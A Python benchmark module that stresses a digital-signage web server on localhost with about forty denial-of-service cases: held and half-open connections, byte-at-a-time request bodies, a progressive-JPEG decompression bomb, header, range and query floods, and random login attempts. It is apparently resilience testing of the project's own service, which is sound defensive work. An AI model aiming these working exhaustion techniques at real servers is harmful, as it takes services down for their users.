"""What somebody with one machine and this code at hand does to delay a takeover; one case in a process of its own.

`python -m benchmarks.attacks CASE PORT STREAMS FOLDER GATEWAY` says "begun" once it has begun, and goes on until it is
terminated. `FOLDER` is the venue's, `GATEWAY` the process of the simulated gateway.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import random
import re
import resource
import select
import signal
import socket
import struct
import sys
import time
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Callable

chance = random.Random()  # noqa: S311 - nothing here is secret
SCANS, SIDE = 400, 6000
LANGUAGES = ("en", "pt", "ar", "ja", "de", "fr", "he", "hi")


@dataclass(frozen=True)
class Target:
    """Whom to attack, and with how many streams at most."""

    port: int
    streams: int
    folder: Path
    gateway: int


def request(path: str, *more: str, method: str = "GET") -> bytes:
    """A request; `more` are further lines of its head."""
    return "\r\n".join((f"{method} {path} HTTP/1.1", "Host: x", *more, "", "")).encode("latin-1")


def connected(port: int, *, small: bool = False) -> socket.socket:
    """A connection that does not block; a `small` one has room for little that is not read."""
    sock = socket.socket()
    if small:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect(("127.0.0.1", port))
    sock.setblocking(False)
    return sock


def hold(target: Target, asked: Callable[[int], bytes], count: int, *, small: bool = False) -> None:
    """So many connections that send once and never read."""
    open_ones = []
    for number in range(count):
        sock = connected(target.port, small=small)
        sock.send(asked(number))
        open_ones.append(sock)
        if number % 50 == 0:
            time.sleep(0.01)
    begin()
    signal.pause()


def hammer(target: Target, asked: Callable[[], bytes], connections: int, *, answers: bool = True) -> None:
    """So many connections, each with one request after the other; `answers`: the next once something has come back.

    A connection that is closed is replaced; without `answers` it is cut as soon as it has asked.
    """
    poll, socks = select.epoll(), {}

    def connect() -> None:
        with contextlib.suppress(OSError):
            sock = connected(target.port)
            sock.send(asked())
            if not answers:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                sock.close()
                return
            socks[sock.fileno()] = sock
            poll.register(sock, select.EPOLLIN)

    begin()
    while True:
        if not answers:
            connect()
            continue
        for _ in range(min(50, connections - len(socks))):
            connect()
        for number, _ in poll.poll(0.01, 1024):
            sock = socks[number]
            try:
                if not sock.recv(1 << 20):
                    raise OSError
                sock.send(asked())
            except BlockingIOError:
                continue
            except OSError:
                del socks[number]
                sock.close()


def begin() -> None:
    """Say that it has begun."""
    print("begun", flush=True)


# Those that were feared -------------------------------------------------------------------------------------------


def nothing(_: Target) -> None:
    """(-) nobody does anything"""
    begin()
    signal.pause()


def some_time() -> str:
    day = f"2026-{chance.randint(1, 12):02}-{chance.randint(1, 28):02}"
    return f"?at={day}T{chance.randint(0, 23):02}:{chance.randint(0, 59):02}:{chance.randint(0, 59):02}"


def random_days(target: Target) -> None:
    """(a) 16 clients ask for random days and seconds"""
    hammer(target, lambda: request(f"/screens/{chance.choice(('board', 'all'))}{some_time()}"), 16)


def open_days(target: Target) -> None:
    """(b) 500 streams of days are open"""
    days = [f"/screens/all/events?at=2026-{n % 12 + 1:02}-{n % 28 + 1:02}" for n in range(500)]
    hold(target, lambda number: request(days[number]), 500)


def no_names(target: Target) -> None:
    """(c) streams of names that don't exist are open"""
    hold(target, lambda number: request(f"/screens/none-{number}/events"), min(5000, target.streams * 5 // 2))


def bomb(target: Target) -> None:
    """(d) progressive JPEGs of 400 scans are dropped into media/"""
    file = io.BytesIO()
    Image.new("L", (SIDE, SIDE), 90).save(file, "JPEG", progressive=True)
    raw = file.getvalue()
    start = raw.rindex(b"\xff\xda")
    media = target.folder / "media"
    media.mkdir(exist_ok=True)
    begin()
    for number in range(1000):
        (media / "new").write_bytes(raw[:start] + raw[start:-2] * (SCANS + number) + raw[-2:])
        (media / "new").replace(media / "bomb.jpg")
        time.sleep(1)


def answered(target: Target, path: str) -> bytes:
    """What a page answers, which may take a while."""
    with socket.create_connection(("127.0.0.1", target.port)) as sock:
        sock.sendall(request(path, "Connection: close"))
        return b"".join(iter(partial(sock.recv, 1 << 20), b""))


def until(target: Target, path: str, said: str) -> None:
    """Wait until a page says something, so that nobody measures what has not come."""
    while not re.search(said.encode(), answered(target, path)):
        time.sleep(0.2)


def flood(target: Target) -> None:
    """(e) the gateway sends 19,000 sessions of one room, and again under other titles"""
    os.kill(target.gateway, signal.SIGUSR1)
    until(target, "/readyz", r"20[0-9]{3}\b")
    begin()
    while True:
        os.kill(target.gateway, signal.SIGUSR1)
        time.sleep(2)


def returning(target: Target) -> None:
    """(f) displays come back after a change of every title, and again"""
    os.kill(target.gateway, signal.SIGUSR2)
    until(target, "/screens/board", "version 1")
    begin()
    while True:
        os.kill(target.gateway, signal.SIGUSR2)
        for path in ("board", "all"):
            back = [connected(target.port) for _ in range(target.streams // 2)]
            for sock in back:
                sock.send(request(f"/screens/{path}/events?rev=x.1", "Accept-Encoding: gzip"))
            time.sleep(2)
            for sock in back:
                sock.close()


def stopped(target: Target) -> None:
    """(g) readers stop reading"""
    asked = request("/screens/board/events?rev=", "Accept-Encoding: gzip")
    hold(target, lambda _: asked, target.streams, small=True)


# Those that came to mind with the code at hand ----------------------------------------------------------------------


def stopped_plain(target: Target) -> None:
    """readers that take no compression stop reading"""
    hold(target, lambda _: request("/screens/board/events?rev="), target.streams, small=True)


def slow_pages(target: Target) -> None:
    """readers of the largest page stop reading"""
    hold(target, lambda _: request("/screens/board"), target.streams, small=True)


def half_open(target: Target) -> None:
    """connections that never finish their request"""
    hold(target, lambda _: b"GET /screens/board HTTP/1.1\r\nHost: x\r\nX: ", target.streams)


def slow_posts(target: Target) -> None:
    """bodies that come a byte at a time"""
    drip(target, request("/screens/board", "Content-Length: 1000000", method="POST"))


def slow_calls(target: Target) -> None:
    """the same to calls of the staff page"""
    kind = "Content-Type: application/json"
    drip(target, request("/staff/api/notices", kind, "Origin: http://x", "Content-Length: 60000", method="POST"))


def drip(target: Target, head: bytes) -> None:
    """Begin requests, and go on with each of them a byte at a time."""
    socks: list[socket.socket] = []
    begin()
    while True:
        socks += [connected(target.port) for _ in range(min(100, target.streams - len(socks)))]
        for sock in tuple(socks):
            try:
                sock.send(b"x" if sock in socks[:-100] else head)
            except OSError:
                socks.remove(sock)
        time.sleep(0.05)


def pages(target: Target) -> None:
    """64 clients ask for the largest page, uncompressed, as fast as they can"""
    hammer(target, lambda: request("/screens/board"), 64)


def pages_many(target: Target) -> None:
    """as many clients as there may be ask for a page at once, again and again"""
    hammer(target, lambda: request("/screens/board", "Accept-Encoding: gzip"), target.streams)


def odd_requests(target: Target) -> None:
    """HEAD, ranges, conditions, encodings by chance"""

    def one() -> bytes:
        noise = f"{chance.random()}"
        more = (
            f"Accept-Encoding: {noise}, gzip;q={noise}",
            f"Range: bytes={chance.randint(0, 9)}-",
            f'If-None-Match: "{noise}", ' + ", ".join(f'"{n}"' for n in range(1000)),
            f"Accept-Language: {chance.choice(LANGUAGES)}",
        )
        return request("/screens/board", *chance.sample(more, 2), method=chance.choice(("GET", "HEAD")))

    hammer(target, one, 64)


def many_headers(target: Target) -> None:
    """heads full of headers"""
    hammer(target, lambda: request("/screens/board", *["a:"] * 4000), 64)


def paths(target: Target) -> None:
    """paths of all kinds that lead nowhere"""
    kinds = ("/theme/{}.css", "/media/{}/x.png", "/static/{}.js", "/rooms/{}", "/screens/{}", "/{}", "/healthz?{}",
             "/static/signage.js?{}", "/rooms/%2e%2e/{}", "/screens/" + "a/" * 2000 + "{}", "/rooms/%C3%A9{}",
             "/displays/{}/report", "/staff/{}", "/screens/" + "%F0%9F%92%A9" * 900 + "{}")  # fmt: skip
    hammer(target, lambda: request(chance.choice(kinds).format(chance.random())), 64)


def posts(target: Target) -> None:
    """bodies of 900 KB to whatever takes or refuses them"""
    body = b"x" * 900_000
    kinds = ("/screens/board", "/displays/x/report", "/staff/login", "/static/x")

    def one() -> bytes:
        head = request(chance.choice(kinds), f"Content-Length: {len(body)}", method="POST")
        return head + body

    hammer(target, one, 64)


def pipelined(target: Target) -> None:
    """requests sent ahead of the answers"""
    hammer(target, lambda: request("/screens/board") * 100, 64)


def come_and_go(target: Target) -> None:
    """streams that are cut as soon as they are asked for"""
    hammer(target, lambda: request("/screens/board/events?rev="), 1, answers=False)


def set_of(target: Target, screen: str = "board") -> str:
    """What a screen's page names its set of panels, and their revisions."""
    sock = connected(target.port)
    sock.setblocking(True)
    sock.sendall(request(f"/screens/{screen}/events?rev="))
    got = b""
    while b"\nid: " not in got or not got.endswith(b"\n\n\r\n"):
        got += sock.recv(1 << 20)
    return got.rpartition(b"id: ")[2].split()[0].decode()


def random_revisions(target: Target) -> None:
    """streams with revisions by chance, for which nothing can be ready"""
    kept, *revisions = set_of(target).split(".")

    def one() -> bytes:
        made = ".".join([kept, *(f"{chance.getrandbits(32):08x}"[: len(one)] for one in revisions)])
        return request(f"/screens/board/events?rev={made}")

    storm(target, one)


def picked_revisions(target: Target) -> None:
    """streams without compression that each name others of the page's own revisions, and are never read"""
    kept, *revisions = set_of(target, "all").split(".")

    def one() -> bytes:
        return request(f"/screens/all/events?rev={'.'.join([kept, *(chance.choice((one, 'x')) for one in revisions)])}")

    storm(target, one)


def queries(target: Target) -> None:
    """queries of thousands of fields"""
    hammer(target, lambda: request(f"/screens/board?{'a=1&' * 3900}"), 64)


def codes(target: Target) -> None:
    """codes of TVs that are drawn, each for another long host"""
    said = json.dumps({"display": f"{chance.getrandbits(128):032x}"}).encode()
    asked = request("/pair", f"Content-Length: {len(said)}", "Connection: close", method="POST") + said
    with socket.create_connection(("127.0.0.1", target.port)) as sock:
        sock.sendall(asked)
        told = b"".join(iter(partial(sock.recv, 1 << 20), b""))
    ticket = json.loads(told.partition(b"\r\n\r\n")[2])["ticket"]

    def one() -> bytes:
        host = f"{chance.getrandbits(64)}{'x' * 2000}"
        return request(f"/pair/{ticket}.svg").replace(b"Host: x", f"Host: {host}".encode())

    hammer(target, one, 64)


def trailers(target: Target) -> None:
    """a header after a chunked body, without end"""
    head = request("/healthz", "Transfer-Encoding: chunked") + b"0\r\nX: "
    socks: list[socket.socket] = []
    begin()
    while True:
        while len(socks) < 8:
            socks.append(connected(target.port))
            socks[-1].send(head)
        for sock in tuple(socks):
            try:
                sock.send(b"x" * 65_536)
            except BlockingIOError:
                continue
            except OSError:
                socks.remove(sock)
        time.sleep(0.001)


def last_event_ids(target: Target) -> None:
    """streams with 15 KB of Last-Event-ID, each another"""
    storm(target, lambda: request("/screens/board/events", f"Last-Event-ID: {chance.random()}{'x' * 15_000}"))


def storm(target: Target, asked: Callable[[], bytes]) -> None:
    """Open streams, never read, cut the oldest once there are enough."""
    open_ones: list[socket.socket] = []
    begin()
    while True:
        with contextlib.suppress(OSError):
            sock = connected(target.port, small=True)
            sock.send(asked())
            open_ones.append(sock)
        if len(open_ones) >= target.streams:
            open_ones.pop(0).close()


def languages(target: Target) -> None:
    """previews in many languages, of all rooms"""

    def one() -> bytes:
        path = (
            f"/rooms/hall-{chance.randint(0, 59)}{some_time()}&lang={chance.choice(LANGUAGES)}&speed={chance.random()}"
        )
        return request(path, f"Accept-Language: {chance.choice(LANGUAGES)}")

    hammer(target, one, 256)


def rooms(target: Target) -> None:
    """streams of every room are opened and left, so that each is rendered"""
    storm(target, lambda: request(f"/rooms/room_{chance.randint(0, 59)}/events?rev=x.{chance.random()}"))


def displays(target: Target) -> None:
    """streams of displays that there are not, each another"""
    storm(target, lambda: request(f"/screens/all/events?rev=x&display={chance.getrandbits(128):032x}-1"))


def reports(target: Target) -> None:
    """reports of displays that there are not"""
    said = {"page": "/screens/board", "now": 0, "rev": "x" * 3000, "shown": ["x"] * 40, "error": "e" * 200}

    def one() -> bytes:
        body = json.dumps(said).encode()
        path = f"/displays/{chance.getrandbits(128):032x}/report"
        return request(path, f"Content-Length: {len(body)}", method="POST") + body

    hammer(target, one, 256)


def sign_ins(target: Target) -> None:
    """passwords by chance"""
    body = b"name=admin&password=" + b"x" * 200
    form = "Content-Type: application/x-www-form-urlencoded"
    own = "Origin: http://x"
    hammer(
        target, lambda: request("/staff/login", form, own, f"Content-Length: {len(body)}", method="POST") + body, 256
    )


def staff_pages(target: Target) -> None:
    """what the staff page gives to anybody"""
    kinds = ("/staff", "/staff/login", "/staff/api/openapi.json", "/staff/api/me", "/staff/words.json?lang=ar")
    hammer(target, lambda: request(chance.choice(kinds)), 256)


def staff_streams(target: Target) -> None:
    """the staff page's stream, without an account"""
    storm(target, lambda: request("/staff/events", f"Cookie: signage_staff={chance.random()}"))


def hosts(target: Target) -> None:
    """requests under names by chance"""
    hammer(target, lambda: request("/screens/board").replace(b"Host: x", f"Host: {chance.random()}".encode()), 64)


def methods(target: Target) -> None:
    """methods that nothing answers to"""
    kinds = ("OPTIONS", "HEAD", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND")
    pages = ("/screens/board", "/screens/all/events", "/staff/api/me", "/media/x.png", "/healthz")
    hammer(target, lambda: request(chance.choice(pages), method=chance.choice(kinds)), 64)


def ranges(target: Target) -> None:
    """ranges of files, thousands at a time"""
    many = ",".join(f"{n}-{n + 1}" for n in range(1500))
    files = ("/static/signage.js", "/media/bomb.jpg", "/sw.js")
    hammer(target, lambda: request(chance.choice(files), f"Range: bytes={many}"), 64)


def toggling(target: Target) -> None:
    """streams of the board, with compression and without in turn, never read"""
    kinds = ("gzip", "identity", "br", "gzip;q=0")
    storm(target, lambda: request("/screens/board/events?rev=", f"Accept-Encoding: {chance.choice(kinds)}"))


def connections(target: Target) -> None:
    """connections are made and cut without a word"""
    hammer(target, lambda: b"", 1, answers=False)


def garbage(target: Target) -> None:
    """what is no HTTP"""
    hammer(target, lambda: chance.randbytes(3000), 64)


FEARED = {"-": nothing, "a": random_days, "b": open_days, "c": no_names, "d": bomb, "e": flood, "f": returning}
FEARED["g"] = stopped
TRIED = (
    stopped_plain, slow_pages, half_open, slow_posts, pages, pages_many, odd_requests, many_headers, paths, posts,
    pipelined, come_and_go, random_revisions, picked_revisions, queries,
    codes, trailers, last_event_ids, languages, rooms, displays, reports,
    sign_ins, staff_pages, staff_streams, slow_calls, hosts, methods, ranges, toggling, connections, garbage,
)  # fmt: skip
CASES: dict[str, Callable[[Target], None]] = {**FEARED, **{case.__name__: case for case in TRIED}}


def main(case: str, port: str, streams: str, folder: str, gateway: str) -> None:
    """Attack until terminated."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    CASES[case](Target(int(port), int(streams), Path(folder), int(gateway)))


if __name__ == "__main__":
    main(*sys.argv[1:])
